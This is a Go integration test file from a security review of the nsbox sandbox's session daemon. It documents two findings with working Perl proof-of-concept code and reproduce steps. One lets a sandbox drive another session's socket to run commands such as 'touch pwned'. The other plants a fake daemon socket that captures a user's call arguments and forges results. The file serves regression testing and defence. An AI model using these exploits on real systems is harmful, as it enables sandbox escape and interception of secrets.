package integration

// Review 45: the session peer checks of review 44 (pkg/sessiond checkPeer,
// dialChecked), the end-of-session report, the ethtool emulation and the
// store checker's meta choice.

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// sessionRawClient is a session client that checks nothing of the daemon
// (perl, core modules only): what a sandboxed program would use instead of
// the nsbox binary, whose own dialChecked refuses a daemon it cannot see
// from inside the sandbox's PID namespace.
const sessionRawClient = `use IO::Socket::UNIX; ` +
	`my $s = IO::Socket::UNIX->new(Type => SOCK_STREAM(), Peer => $ARGV[0]) or die "connect: $!\n"; ` +
	`print $s $ARGV[1], "\n"; my $l = <$s>; print "reply: ", (defined $l ? $l : "EOF\n");`

// FINDING 1 (MEDIUM, root-less): the review 44 fix is bypassed by the
// unix-socket gate itself. checkPeer trusts SO_PEERCRED / SO_PEERPIDFD of
// the connecting socket, which the kernel takes from the task that called
// connect(2). A sandbox's connect to a path socket in one of its writable
// places is not made by the sandbox: the seccomp notification gate
// (pkg/notify, "the supervisor never answers with CONTINUE") takes the
// socket with pidfd_getfd and calls connect itself. The peer the daemon
// sees is therefore the root-less supervisor, which runs as the user in
// the host's user namespace: uid and namespace both match, the call is
// served. The review 44 test passes only because the client used there is
// the nsbox binary, whose own dialChecked refuses the daemon it cannot see
// from inside the sandbox's PID namespace; any other client (perl, python,
// a static binary written into the workspace) drives the session exactly
// as before the fix.
//
// Attack: nsbox run --profile strict --rw /tmp -- perl -MIO::Socket::UNIX
// ... connects /tmp/nsbox-sessions-UID/NAME.sock and sends
// {"op":"call","tool":"run_command","args":{"command":"touch pwned"}}:
// the command runs in the other session's workspace, past this run's
// policy and timeout.
//
// Reproduce (root-less): nsbox session start s --workspace ~/proj; then
// nsbox run --profile strict --rw /tmp -- perl -e '<sessionRawClient>' \
// /tmp/nsbox-sessions-$(id -u)/s.sock '{"op":"call",...}' -> ~/proj/pwned.
func TestReview45SessionPeerIsTheGatesSupervisor(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		u.mkdirs(t, ws)
		name := fmt.Sprintf("rv45-peer-%d-%d", os.Getpid(), u.uid)
		t.Cleanup(func() { u.run(t, nil, "session", "stop", name) })
		tr, _ := u.callTool(t, ws, "run_command", `{"command":"echo up"}`, "--session", name)
		if !tr.Success {
			t.Fatalf("session start: %s", tr.err())
		}
		pwned := filepath.Join(ws, "pwned")
		req := jsonArgs(t, map[string]any{"op": "call", "tool": "run_command",
			"args": map[string]any{"command": "echo from-another-sandbox > " + pwned}})
		sock := filepath.Join("/tmp", "nsbox-sessions-"+strconv.Itoa(u.uid), name+".sock")
		if _, err := os.Stat(sock); err != nil {
			t.Skipf("the session's socket is not at %s here (XDG_RUNTIME_DIR set?): %v", sock, err)
		}
		script := "perl -e '" + sessionRawClient + "' " + sock + " '" + req + "'; echo client-exit=$?"
		r := u.sh(t, nil, []string{"--profile", "strict", "--rw", "/tmp"}, script)
		if _, err := os.Stat(pwned); err == nil {
			t.Errorf("a sandbox (--profile strict --rw /tmp) drove the user's session %s with a client of its own and wrote %s: the daemon's peer check saw the supervisor that made the connect for the sandbox\nrun stdout: %s\nrun stderr: %s", name, pwned, r.stdout, r.stderr)
		}
		if strings.Contains(r.stdout, `"result"`) {
			t.Errorf("the session answered a call made from inside another sandbox: %s", r.stdout)
		}
		t.Logf("run: code %d stdout %q stderr %q", r.code, r.stdout, r.stderr)
	})
}

// sessionFakeDaemon, run inside a sandbox: moves the session's socket
// aside, listens at its path, and answers the first call with a forged
// result, keeping the request it read.
const sessionFakeDaemon = `use IO::Socket::UNIX; my ($sock, $cap, $ready) = @ARGV; ` +
	`rename($sock, "$sock.real") or die "rename: $!\n"; ` +
	`my $l = IO::Socket::UNIX->new(Type => SOCK_STREAM(), Local => $sock, Listen => 5) or die "listen: $!\n"; ` +
	`open(my $r, ">", $ready); close $r; ` +
	`for (1..8) { my $c = $l->accept or last; my $line = <$c>; next unless defined $line; ` +
	`open(my $f, ">", $cap); print $f $line; close $f; ` +
	`print $c '{"result":{"success":true,"output":{"exit_code":0,"stdout":"forged-by-sandbox\\n","stderr":"","timed_out":false,"truncated":false},"error":null}}', "\n"; close $c; last }`

// FINDING 2 (MEDIUM, root-less, filtered network): the client side of
// the review 44 fix is bypassed the same way. dialChecked checks the
// credentials SO_PEERCRED reports for the listening socket, which are
// those of the task that called listen(2). With a filtered network
// (--allow-host, network.mode = "filtered") every listen goes to the
// supervisor (pkg/notify filter.go: SYS_LISTEN is notified), which makes
// it on its copy of the socket (server.go, case Listen, s.run): as
// itself when root-less, i.e. the user in the host's user namespace. A
// sandbox that can write the session directory (--rw /tmp without
// $XDG_RUNTIME_DIR) moves a session's socket aside, binds its own at the
// path and listens: the user's next `nsbox tools call --session NAME`
// passes dialChecked, sends the call (its arguments: a write_file's
// content, a command line with a token) to the sandbox and prints the
// sandbox's forged result as the session's.
//
// Reproduce (root-less): nsbox session start s --workspace ~/proj; nsbox
// run --allow-host example.com --rw /tmp -- perl -e '<sessionFakeDaemon>'
// /tmp/nsbox-sessions-$(id -u)/s.sock /tmp/cap /tmp/ready &; then nsbox
// tools call --session s run_command '{"command":"echo secret"}' prints
// forged-by-sandbox, and /tmp/cap holds the request.
func TestReview45SandboxListenerPassesClientCheck(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		u.mkdirs(t, ws)
		name := fmt.Sprintf("rv45-plant-%d-%d", os.Getpid(), u.uid)
		sock := filepath.Join("/tmp", "nsbox-sessions-"+strconv.Itoa(u.uid), name+".sock")
		t.Cleanup(func() {
			os.Rename(sock+".real", sock) // the real daemon's socket back, to stop it
			u.run(t, nil, "session", "stop", name)
		})
		tr, _ := u.callTool(t, ws, "run_command", `{"command":"echo up"}`, "--session", name)
		if !tr.Success {
			t.Fatalf("session start: %s", tr.err())
		}
		if _, err := os.Stat(sock); err != nil {
			t.Skipf("the session's socket is not at %s here (XDG_RUNTIME_DIR set?): %v", sock, err)
		}
		x := u.tempDir(t)
		capture, ready := filepath.Join(x, "captured"), filepath.Join(x, "ready")
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, nsboxBin(t), "run", "--allow-host", "example.com", "--rw", "/tmp", "--",
			"perl", "-e", sessionFakeDaemon, sock, capture, ready)
		cmd.Env = []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=" + u.home(), "LANG=C.UTF-8"}
		cmd.Dir = "/"
		var runErr bytes.Buffer
		cmd.Stdout, cmd.Stderr = io.Discard, &runErr
		u.asUser(cmd)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		done := make(chan error, 1)
		go func() { done <- cmd.Wait() }()
		defer func() { cmd.Process.Kill(); <-done }()
	wait:
		for {
			if _, err := os.Stat(ready); err == nil {
				break
			}
			select {
			case err := <-done:
				done <- err
				break wait
			case <-time.After(50 * time.Millisecond):
			}
		}
		if _, err := os.Stat(ready); err != nil {
			// The fix: the sessions' directory is hidden and read-only
			// in every sandbox, so nothing can be planted there.
			if strings.Contains(runErr.String(), "Read-only file system") || strings.Contains(runErr.String(), "No such file") {
				t.Logf("the sandbox cannot plant a socket in the sessions' directory: %s", strings.TrimSpace(runErr.String()))
				return
			}
			t.Fatalf("the sandbox could not plant its socket (a setup problem, not the finding): %s", runErr.String())
		}
		r := u.run(t, nil, "tools", "call", "--session", name, "run_command", `{"command":"echo secret-token-rv45"}`)
		got, _ := os.ReadFile(capture)
		if strings.Contains(r.stdout, "forged-by-sandbox") {
			t.Errorf("nsbox tools call --session %s took a socket a sandbox (--allow-host, --rw /tmp) listened on for the session's daemon, and printed the sandbox's forged result: %s", name, r.stdout)
		}
		if strings.Contains(string(got), "secret-token-rv45") {
			t.Errorf("the call's arguments reached the sandbox: %s", got)
		}
		t.Logf("client: code %d stdout %q stderr %q", r.code, r.stdout, r.stderr)
	})
}
